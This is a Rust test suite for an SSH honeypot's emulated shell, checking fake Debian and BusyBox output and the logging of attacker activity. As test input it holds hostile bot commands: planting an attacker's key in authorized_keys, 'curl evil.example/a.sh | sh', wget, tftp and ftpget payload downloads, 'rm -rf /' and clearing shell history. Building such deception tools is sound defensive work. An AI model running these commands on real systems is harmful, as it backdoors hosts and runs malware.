//! Behaviour of the whole shell: what bots type, and what they must see.

use super::*;

fn shell() -> Shell {
    shell_with(false)
}

fn shell_with(pty: bool) -> Shell {
    let world = World::new(Persona::debian("web-1", vec!["pi".into(), "admin".into()]));
    Shell::new(world, "root", limits(50), origin("10.0.0.5"), pty)
}

/// What every test session comes from: a documentation address, a fixed clock.
pub(super) fn origin(server_ip: &str) -> Origin {
    Origin {
        client_ip: "203.0.113.9".into(),
        server_ip: server_ip.into(),
        now: 1_732_871_331,
    }
}

/// Lines of up to 4 KiB, `max_commands` commands.
pub(super) fn limits(max_commands: usize) -> Limits {
    Limits {
        max_line_bytes: 4096,
        max_commands,
    }
}

/// stdout then stderr of `line` (no terminal, so the two are separate streams).
fn run(sh: &mut Shell, line: &str) -> String {
    let out = sh.exec(line);
    let mut all = out.data;
    all.extend_from_slice(&out.err);
    String::from_utf8_lossy(&all).into_owned()
}

#[test]
fn common_bot_commands_answer_like_debian() {
    let mut sh = shell();
    assert_eq!(run(&mut sh, "cat /proc/cpuinfo | grep name | wc -l"), "2\n");
    assert_eq!(run(&mut sh, "uname -m"), "x86_64\n");
    assert_eq!(
        run(&mut sh, "uname -s -n -r"),
        "Linux web-1 6.1.0-28-amd64\n"
    );
    assert_eq!(
        run(&mut sh, "whoami; id"),
        "root\nuid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(run(&mut sh, "echo -e '\\x41\\x4b\\x34\\x37'"), "AK47\n");
    assert_eq!(run(&mut sh, "echo -ne 'a\\nb'"), "a\nb");
    assert_eq!(run(&mut sh, "which ls"), "/usr/bin/ls\n");
    assert!(run(&mut sh, "ls -lh $(which ls)").starts_with("-rwxr-xr-x 1 root root  135K"));
    assert_eq!(
        run(
            &mut sh,
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"
        ),
        "Intel(R) Xeon(R) CPU E5-2680 v4 @\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'"
        ),
        "3932 943 1612 1 1376 3067\n"
    );
    assert_eq!(
        run(&mut sh, "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"),
        "1.9G\n"
    );
    assert_eq!(run(&mut sh, "nproc"), "2\n");
    assert_eq!(run(&mut sh, "crontab -l"), "no crontab for root\n");
    assert_eq!(run(&mut sh, "foo"), "-bash: foo: command not found\n");
    assert_eq!(sh.status, 127);
    assert_eq!(
        run(&mut sh, "/bin/busybox ECCHI"),
        "ECCHI: applet not found\n"
    );
    assert_eq!(
        run(&mut sh, "lscpu | grep Model"),
        "  Model name:            Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\n    Model:               79\n"
    );
    assert_eq!(run(&mut sh, "getconf LONG_BIT"), "64\n");
}

#[test]
fn control_flow_quoting_and_substitution() {
    let mut sh = shell();
    let out = sh.exec("cd /nope || cd /tmp && pwd");
    assert_eq!(out.data, b"/tmp\n");
    // No terminal: errors are stderr, sent apart (SSH extended data).
    assert_eq!(out.err, b"-bash: cd: /nope: No such file or directory\n");
    assert_eq!(
        run(&mut sh, "echo \"$(pwd) `whoami`\" '$HOME' $HOME"),
        "/tmp root $HOME /root\n"
    );
    assert_eq!(run(&mut sh, "false; echo $?"), "1\n");
    assert_eq!(run(&mut sh, "X=42; echo ${X}"), "42\n");
    assert_eq!(run(&mut sh, "sh -c 'echo a && echo b'"), "a\nb\n");
    assert_eq!(run(&mut sh, "ls /nope 2>/dev/null; echo ok"), "ok\n");
    assert_eq!(run(&mut sh, "echo hi | cat | cat"), "hi\n");
    assert!(run(&mut sh, "echo 'x").contains("unexpected EOF"));
}

#[test]
fn overlay_filesystem_commands() {
    let mut sh = shell();
    let out = run(
        &mut sh,
        "cd ~; rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    );
    assert_eq!(out, "");
    assert_eq!(
        run(&mut sh, "cat .ssh/authorized_keys"),
        "ssh-rsa AAAA mdrfckr\n"
    );
    assert_eq!(run(&mut sh, "touch /tmp/x; ls /tmp"), "x\n");
    assert_eq!(
        run(&mut sh, "rm /tmp/x; ls /tmp; cat /tmp/x"),
        "cat: /tmp/x: No such file or directory\n"
    );
    assert_eq!(
        run(
            &mut sh,
            "echo a > /tmp/f; echo b >> /tmp/f; cat /tmp/f | wc -l"
        ),
        "2\n"
    );
    assert!(run(&mut sh, "rm -rf /").contains("dangerous"));
}

#[test]
fn downloads_are_recorded_not_fetched() {
    let mut sh = shell();
    let out = sh.exec("cd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86; ./x86 ssh; curl -s http://evil.example/a.sh | sh; tftp -g -r t.sh 198.51.100.7; busybox ftpget 198.51.100.7 f.sh f.sh");
    let urls: Vec<_> = out
        .actions
        .iter()
        .filter_map(|a| match a {
            Action::Download { url, .. } => Some(url.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        [
            "http://198.51.100.7/bins/x86",
            "http://evil.example/a.sh",
            "tftp://198.51.100.7/t.sh",
            "ftp://198.51.100.7/f.sh"
        ]
    );
    // wget reports on stderr, as the real one does.
    let text = String::from_utf8_lossy(&out.err);
    assert!(text.contains("saved"), "{text}");
    assert!(!text.contains("command not found"), "{text}");
    assert!(run(&mut sh, "ls -l /tmp/x86").starts_with("-rwxrwxrwx"));
}

#[test]
fn interactive_editing_prompt_and_limits() {
    let world = World::new(Persona::debian("web-1", vec![]));
    let limits = Limits {
        max_line_bytes: 64,
        max_commands: 3,
    };
    let mut sh = Shell::new(world, "root", limits, origin("10.0.0.5"), true);
    let greeting = String::from_utf8_lossy(&sh.greeting().data).into_owned();
    assert!(greeting.ends_with("root@web-1:~# "), "{greeting}");
    assert!(greeting.contains("\r\n"));
    let out = sh.feed(b"pwf\x7fd\r");
    assert_eq!(
        String::from_utf8_lossy(&out.data),
        "pwf\x08 \x08d\r\n/root\r\nroot@web-1:~# "
    );
    assert_eq!(
        out.actions,
        [
            Action::Command("pwd".into()),
            Action::Typed("pwf\\x7fd".into()),
            Action::Process {
                image: "/usr/bin/pwd".into(),
                command_line: "pwd".into(),
                parent: "/bin/bash",
            }
        ]
    );
    let out = sh.feed(&[b'x'; 1000]);
    assert_eq!(out.actions, [Action::Limit("line")]);
    sh.feed(b"\r");
    sh.feed(b"id\r");
    let out = sh.feed(b"id\r");
    assert!(out.actions.contains(&Action::Limit("commands")));
    assert_eq!(out.exit, Some(0));
}

#[test]
fn hostile_input_never_panics() {
    let mut sh = shell();
    let nasty = [
        "$(",
        "`",
        "${",
        "\"$(\"",
        "echo $((1+1))",
        "a | | b",
        ";;",
        "& &",
        "2>&1",
        "> ",
        "cat < /nope",
        "echo \\",
        "printf %",
        "printf '%99999999d' 1",
        "head -c 99999999999 /etc/passwd",
        "dd if=/dev/zero bs=999999999999 count=99999999",
        "awk",
        "awk '{print $99999999999}' /etc/passwd",
        "cut -f 0",
        "tr a-\u{10ffff} b",
        "yes | head",
        "grep",
        "sed s",
        "base64 -d",
        "chmod",
        "chmod u+ /tmp",
        // Found by the shell_session fuzz target: a multi-byte operator.
        "chmod \u{f1}\u{f1}+x /tmp",
        "chmod u\u{20ac}rw,g\u{1f600} /tmp",
        "echo -e '\\x'",
        "echo -e '\\0777'",
        "ls -la /proc /nope",
        "test -f",
        "[ a",
        "busybox",
        "eval eval eval eval eval eval eval eval eval eval echo x",
        "sh -c 'sh -c \"sh -c sh\"'",
        "tftp",
        "ftpget",
        "wget",
        "curl",
    ];
    for line in nasty {
        let _ = sh.exec(line);
    }
    let deep = "echo ".to_string() + &"$(echo ".repeat(100) + &")".repeat(100);
    let _ = sh.exec(&deep);
}

#[test]
fn cat_reads_the_terminal_until_ctrl_d_and_heredocs_until_their_word() {
    let mut sh = shell_with(true);
    let mut actions = Vec::new();
    for chunk in [
        &b"cat > /tmp/a\r"[..],
        b"one\rtwo\r",
        b"\x04",
        b"cat > /tmp/b << 'END'\r",
        b"x\rEND\r",
        b"cat > /tmp/c\rpartial\r\x03",
        b"cat /tmp/a /tmp/b /tmp/c\r",
    ] {
        let out = sh.feed(chunk);
        actions.extend(out.actions);
        if chunk.ends_with(b"END\r") {
            assert!(String::from_utf8_lossy(&out.data).ends_with("# "));
        }
    }
    let writes: Vec<(String, Vec<u8>)> = actions
        .iter()
        .filter_map(|a| match a {
            Action::FileWrite { path, data } => Some((path.clone(), data.to_vec())),
            _ => None,
        })
        .collect();
    assert_eq!(
        writes,
        [
            ("/tmp/a".to_owned(), b"one\ntwo\n".to_vec()),
            ("/tmp/b".to_owned(), b"x\n".to_vec()),
            ("/tmp/c".to_owned(), b"partial\n".to_vec()),
        ]
    );
    let out = sh.feed(b"echo done\r");
    assert!(String::from_utf8_lossy(&out.data).contains("done"));
}

#[test]
fn each_simple_command_is_noted_as_a_process_of_its_line() {
    let mut sh = shell();
    let out = sh.exec("cd /tmp; wget http://203.0.113.9/x.sh; nosuch; history -c");
    let grouped = with_notes(out.actions);
    let processes: Vec<(&str, &str, &str)> = grouped
        .iter()
        .flat_map(|(_, notes)| notes.processes.iter())
        .map(|(image, line, parent)| (image.as_str(), line.as_str(), *parent))
        .collect();
    assert_eq!(
        processes,
        [
            ("/bin/bash", "cd /tmp", "/bin/bash"),
            ("/usr/bin/wget", "wget http://203.0.113.9/x.sh", "/bin/bash"),
            ("/bin/bash", "history -c", "/bin/bash"),
        ]
    );
}

#[test]
fn unknown_commands_are_attached_to_their_line() {
    let mut sh = shell();
    let out = sh.exec("id; nosuch; ./missing || echo x");
    let grouped = with_notes(out.actions);
    assert_eq!(grouped.len(), 1);
    assert!(matches!(&grouped[0].0, Action::Command(c) if c.starts_with("id;")));
    assert_eq!(grouped[0].1.unknown, ["nosuch", "./missing"]);
    let mut busybox = Shell::new(
        World::new(Persona::busybox_device("cam-1", vec![], persona::Arch::Arm)),
        "root",
        limits(50),
        origin("10.0.0.5"),
        false,
    );
    assert_eq!(run(&mut busybox, "nosuch"), "-sh: nosuch: not found\n");
    assert_eq!(run(&mut busybox, "enable; system; shell; sh"), "");
    assert_eq!(busybox.prompt(), "~ # ");
}

#[test]
fn an_upload_kept_in_part_reports_its_whole_size_and_hash() {
    use sha2::Digest;
    let mut sh = shell();
    let data: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
    sh.place_file("/tmp/big", &data, None, 0o755, 1_732_871_331);
    let kept = run(&mut sh, "cat /tmp/big | wc -c");
    assert_eq!(kept, format!("{}\n", fs::KEPT_FILE_BYTES));
    assert_eq!(run(&mut sh, "wc -c /tmp/big"), "100000 /tmp/big\n");
    assert!(run(&mut sh, "ls -l /tmp/big").contains(" 100000 "));
    let sha = nectar_capture::uploads::hex(&sha2::Sha256::digest(&data));
    assert_eq!(
        run(&mut sh, "sha256sum /tmp/big"),
        format!("{sha}  /tmp/big\n")
    );
    // Copied, the file keeps its size.
    run(&mut sh, "cp /tmp/big /tmp/copy");
    assert!(run(&mut sh, "ls -l /tmp/copy").contains(" 100000 "));
    // sha256sum is SHA-256.
    assert_eq!(
        run(&mut sh, "echo -n abc | sha256sum"),
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n"
    );
}

#[test]
fn an_exec_reading_its_input_waits_for_it() {
    let mut sh = shell();
    let out = sh.exec("cat > /tmp/x; chmod +x /tmp/x; wc -c /tmp/x");
    assert_eq!(out.exit, None);
    assert!(sh.reads_stdin());
    let full = fs::FullFile::of(b"#!/bin/sh\necho hi\n");
    let (out, path) = sh.end_stdin(b"#!/bin/sh\necho hi\n", full);
    assert_eq!(out.exit, Some(0));
    assert_eq!(path.as_deref(), Some("/tmp/x"));
    assert_eq!(String::from_utf8_lossy(&out.data), "18 /tmp/x\n");
    // The file is the caller's upload, not a FileWrite.
    assert!(
        !out.actions
            .iter()
            .any(|a| matches!(a, Action::FileWrite { .. }))
    );
    assert_eq!(sh.mode_of("/tmp/x"), Some(0o755));
}

#[test]
fn what_line_editing_swallowed_is_kept_escaped() {
    let mut sh = shell_with(true);
    let out = sh.feed(b"una\x1b[Ame\tx\x7f\r");
    let grouped = with_notes(out.actions);
    assert!(matches!(&grouped[0].0, Action::Command(c) if c == "uname"));
    assert_eq!(grouped[0].1.raw.as_deref(), Some("una\\x1b[Ame\\x09x\\x7f"));
    assert_eq!(
        escape_bytes(b"a\\b\xff\xc2\x9b\xe2\x80\xa8\x00"),
        "a\\\\b\\xff\\u{9b}\\u{2028}\\x00"
    );
}

#[test]
fn an_exec_of_tee_dd_or_base64_waits_for_its_input_too() {
    for line in ["tee /tmp/t", "dd of=/tmp/d bs=1k", "base64 -d > /tmp/b"] {
        let mut sh = shell();
        assert_eq!(sh.exec(line).exit, None, "{line}");
        assert!(sh.reads_stdin(), "{line}");
    }
    for line in [
        "dd if=/bin/sh of=/tmp/x",
        "base64 /etc/passwd",
        "tee /tmp/t < /etc/hosts",
    ] {
        let mut sh = shell();
        assert!(sh.exec(line).exit.is_some(), "{line}");
    }
    let mut sh = shell();
    sh.exec("tee /tmp/t >/dev/null");
    let input = b"payload\n";
    let (out, path) = sh.end_stdin(input, fs::FullFile::of(input));
    assert_eq!(path.as_deref(), Some("/tmp/t"));
    assert_eq!(out.exit, Some(0));
    let mut sh = shell();
    sh.exec("base64 -d > /tmp/b");
    let (out, path) = sh.end_stdin(b"aGk=\n", fs::FullFile::of(b"aGk=\n"));
    // The decoded file is a write of its own; the input went to no file.
    assert_eq!(path, None);
    assert!(out.actions.iter().any(
        |a| matches!(a, Action::FileWrite { path, data } if path == "/tmp/b" && &data[..] == b"hi")
    ));
}
